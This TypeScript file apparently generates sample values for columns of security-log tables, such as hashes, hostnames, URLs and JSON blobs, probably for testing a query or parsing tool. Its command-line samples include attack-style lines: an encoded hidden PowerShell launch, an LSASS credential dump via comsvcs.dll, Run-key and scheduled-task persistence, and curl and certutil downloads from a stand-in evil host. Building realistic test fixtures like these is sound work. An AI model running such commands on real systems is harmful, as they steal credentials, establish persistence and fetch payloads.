type Values = readonly [string, ...string[]];

const numbered = (count: number, text: (n: number) => string): Values => {
  const [first = '', ...rest] = Array.from({ length: count }, (_, n) => text(n));
  return [first, ...rest];
};

const hex = (length: number): Values =>
  numbered(12, n => ((n + 1) * 0x9e3779b1).toString(16).repeat(10).slice(0, length));

const devices = numbered(10, n => (n * 7_919 + 4_099).toString(16).padStart(4, '0').repeat(10));
const hosts = numbered(10, n => (n % 3 === 0 ? `SRV-${n}.contoso.com` : `wks${n}.contoso.com`));
const people = numbered(
  8,
  n => ['alice', 'Bob', 'zoë', 'Дмитрий', 'svc_backup', 'administrator', 'system', '李雷'][n] ?? '',
);
const addresses: Values = [
  '10.0.0.4',
  '10.1.2.3',
  '192.168.1.20',
  '127.0.0.1',
  '8.8.8.8',
  '203.0.113.77',
  '::ffff:10.0.0.4',
  'fe80::1',
  '2001:db8::8a2e:370:7334',
  'not an address',
];
const files: Values = [
  'powershell.exe',
  'cmd.exe',
  'rundll32.exe',
  'WINWORD.EXE',
  'svchost.exe',
  'lsass.exe',
  'invoice.pdf.iso',
  'naïve café.docx',
  'archive.zip',
  'no-extension',
];
const folders: Values = [
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Users\\alice\\Downloads\\invoice.pdf.iso',
  'C:\\ProgramData\\a b\\x.dll',
  '/usr/bin/python3',
  '\\\\share\\c$\\temp\\run.bat',
  'C:\\Users\\zoë\\AppData\\Local\\Temp\\ß.exe',
];
const commands: Values = [
  'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  'cmd.exe /c whoami /all & net user administrator /domain',
  'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
  'schtasks /create /tn "Päivitys" /tr C:\\temp\\a.exe /sc onlogon',
  'curl -o /tmp/x https://evil.example.com/a?b=c%20d#frag',
  'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "C:\\a.exe" /f',
  '"C:\\Program Files\\Google\\Chrome\\chrome.exe" --type=utility',
  'certutil -urlcache -split -f http://10.0.0.4/a.b64',
  '🔥 emoji\ttab\nnew line "quotes" \\back',
];
const urls: Values = [
  'https://evil.example.com/login?user=alice@contoso.com&next=%2Fhome',
  'http://203.0.113.77:8080/a/b.exe',
  'contoso.sharepoint.com/sites/x',
  'https://xn--nave-6pa.example/ü',
  'login.microsoftonline.com',
  'https://raw.githubusercontent.com/a/b/main/c.ps1',
  'ftp://files.example.org',
];
const mails = numbered(
  8,
  n => `${['alice', 'bob', 'no-reply', 'zoë'][n % 4]}@${n < 4 ? 'contoso.com' : 'mail.example.org'}`,
);
const domains: Values = [
  'contoso',
  'CONTOSO',
  'contoso.com',
  'nt authority',
  'mail.example.org',
  'workgroup',
];
const actions: Values = [
  'ProcessCreated',
  'ConnectionSuccess',
  'FileCreated',
  'RegistryValueSet',
  'LogonSuccess',
  'LogonFailed',
  'ImageLoaded',
  'AsrLsassCredentialTheftAudited',
  'AntivirusDetection',
  'PnpDeviceConnected',
  'Add member to role.',
  'Phish ZAP',
  'ClickAllowed',
  'DnsConnectionInspected',
];
const numbers: Values = ['0', '1', '2', '42', '-7', '3.5', '10.0.19045', 'n/a'];
const words: Values = [
  'High',
  'Medium',
  'low',
  'Windows10',
  'WindowsServer2022',
  'Linux',
  'Interactive',
  'Phish',
  'Malware',
  'Inbound',
  'Delivered',
  'Suspicious activity',
  'T1059',
  'café',
  'ÄÖÜ ß',
  'true',
];

const bag = JSON.stringify({
  Command: 'Set-ExecutionPolicy',
  GroupName: 'Administrators',
  IsLocalLogon: true,
  IsAudit: false,
  Protocol: 'Ntlm',
  ThreatName: 'Trojan:Win32/Wacatac.B!ml',
  WasRemediated: false,
  Experience: 'Untrusted',
  PipeName: '\\Device\\NamedPipe\\lsass',
  DistinguishedName: 'CN=srv,OU=Servers,DC=contoso,DC=com',
  SearchFilter: '(&(objectClass=user)(servicePrincipalName=*))',
  'FROM.DEVICE': 'wks1',
  'TO.DEVICE': 'SRV-0',
  Count: 3,
  Score: 0.75,
  uniqueEventsAggregated: 12,
  LogonId: 999,
  InterfaceFriendlyName: 'Wi‑Fi',
  BytesRead: 9_007_199_254_740_991,
  When: '2026-11-20T10:00:00Z',
  Nested: { a: [1, 2, { b: 'c' }], d: null },
  query: 'evil.example.com',
  answers: '["203.0.113.77"]',
  direction: 'Out',
  host: 'evil.example.com',
});
const people64 = JSON.stringify([
  { UserName: 'alice', DomainName: 'CONTOSO', Sid: 'S-1-5-21-1-2-3-1001' },
  { UserName: 'zoë', DomainName: 'CONTOSO', Sid: 'S-1-5-21-1-2-3-1002' },
]);
const held = JSON.stringify([
  { IPAddress: '10.0.0.4', SubnetPrefix: 24, AddressType: 'Private' },
  { IPAddress: 'fe80::1', SubnetPrefix: 64, AddressType: 'LinkLocal' },
]);
const networks = JSON.stringify([
  { Name: 'contoso.com', Description: '', IsConnectedToInternet: true, Category: 'Domain' },
]);
const raw = JSON.stringify({
  Operation: 'New-InboxRule',
  Workload: 'Exchange',
  ClientIP: '203.0.113.77',
  UserId: 'alice@contoso.com',
  AppId: '00000003-0000-0000-c000-000000000000',
  ItemType: 'File',
  Parameters: [
    { Name: 'ForwardTo', Value: 'x@mail.example.org' },
    { Name: 'DeleteMessage', Value: 'True' },
  ],
  ModifiedProperties: [{ Name: 'Role.DisplayName', NewValue: '"Global Administrator"', OldValue: '' }],
  Target: [{ ID: 'bob@contoso.com', Type: 5 }],
  ExtendedProperties: [{ Name: 'additionalDetails', Value: '{"User-Agent":"curl"}' }],
  ResultStatus: 'Success',
  CreationTime: '2026-11-20T10:00:00',
});
const objects = JSON.stringify([
  { Type: 'User', Role: 'Actor', Name: 'Alice', Id: 'a1' },
  { Type: 'File', Role: 'Target object', Name: 'plan.xlsx', Id: 'b2' },
]);
const strings = JSON.stringify(['High', 'T1059', 'Administrators', 'Global Administrator']);
const node = JSON.stringify({
  rawData: {
    isAdmin: true,
    publicIP: '203.0.113.77',
    criticalityLevel: { criticalityLevel: 1, ruleNames: ['Domain Controller'] },
    exposureScore: 'High',
    osVersion: 22631.4,
    highRiskVulnerabilityInsights: {
      hasHighOrCritical: true,
      vulnerableToRCE: { type: 'x', maxCvssScore: 9.8 },
    },
    containsSensitiveData: { type: 'containsSensitiveData' },
    tags: { tags: ['a', 'b'] },
  },
});
const ids = JSON.stringify([
  { type: 'DeviceInventoryId', id: devices[0] },
  '{"type":"AadObjectId","id":"x"}',
]);

const BAGS: Values = [bag, bag, raw, '{}', '{"a":{"b":[]},"Count":"7"}'];

/** Column names, in part, and what such columns hold; the first that fits counts. */
const TEXTS: readonly (readonly [pattern: RegExp, values: Values])[] = [
  [/^AdditionalFields$|RawAgentInfo|^Context$|Details$/, [bag, bag, raw, '{}', 'no json', '["a",1]']],
  [/^LoggedOnUsers$/, [people64, people64, '[]', 'null']],
  [/^IPAddresses$|^DnsAddresses$|^DefaultGateways$/, [held, '[]', '["10.0.0.1","8.8.8.8"]']],
  [/^ConnectedNetworks$/, [networks, '[]']],
  [/^ConditionalAccessPolicies$/, [objects, '[]', '[{"displayName":"MFA","result":"success"}]']],
  [
    /^AttackTechniques$|^Categories$|Tags$|^UrlChain$/,
    [strings, '["Valid Accounts (T1078)"]', '[]', 'Malware'],
  ],
  [/SHA1$/, hex(40)],
  [/SHA256$/, hex(64)],
  [/MD5$/, hex(32)],
  [/DeviceId|DeviceIds?$/, devices],
  [/DeviceName|HostName/, hosts],
  [/Mail|Sender.*Address|Recipient.*Address|Upn$|UPN$/, mails],
  [/IP(v4|v6)?$|^IPAddress|^IpAddress|PublicIP/, addresses],
  [/CommandLine$/, commands],
  [/FileName$|ProcessName$|OriginalFileName/, files],
  [/FolderPath$|Path$/, folders],
  [/Url|Uri$/, urls],
  [
    /RegistryKey$/,
    ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKEY_CURRENT_USER\\A b'],
  ],
  [/Domain$/, domains],
  [/^ActionType$|^Action$|^Operation/, actions],
  [/AccountName$|^GivenName|Surname|DisplayName$/, people],
  [/Sid$/, numbered(6, n => `S-1-5-21-1-2-3-${1_000 + n}`)],
  [
    /^(AlertId|IncidentId|NetworkMessageId|ReportId|CorrelationId|SessionId|RequestId)$/,
    numbered(15, n => `id-${n}`),
  ],
  [
    /ObjectId$|ApplicationId$|AppId$|NodeId$|TenantId$/,
    numbered(8, n => `0b5f0b1a-7a52-4d9c-9f6a-${String(n).repeat(12)}`),
  ],
  [/^CveId$/, ['CVE-2021-44228', 'CVE-2026-1', 'CVE-2023-23397']],
  [/Version$|Build|Score$|Count$|Size$|Latitude|Longitude|Port$|Duration|StatusCode/, numbers],
  [/Date$|Time$/, ['2026-11-20T10:00:00Z', '11/20/2026', 'yesterday']],
];

const JSONS: readonly (readonly [pattern: RegExp, values: Values])[] = [
  [/^RawEventData$/, [raw, raw, bag, '{}']],
  [/^ActivityObjects$|^TargetObjects$|^McpServers$|^RecipientDetails$/, [objects, '[]']],
  [/^NodeProperties$|^EdgeProperties$/, [node, '{}']],
  [/^EntityIds$/, [ids, '[]']],
  [
    /Categories$|Roles$|Tags$|Membership$|Types$|Providers$|Addresses$|Paths$|List$/,
    [strings, '[]', '["device","critical-device"]'],
  ],
];

const found = (pools: readonly (readonly [RegExp, Values])[], name: string): Values | undefined =>
  pools.find(([pattern]) => pattern.test(name))?.[1];

/** Texts that a string column of the name may hold. */
export const textsFor = (column: string): Values => found(TEXTS, column) ?? words;

/** JSON texts that a dynamic column of the name may hold. */
export const jsonFor = (column: string): Values => found(JSONS, column) ?? BAGS;
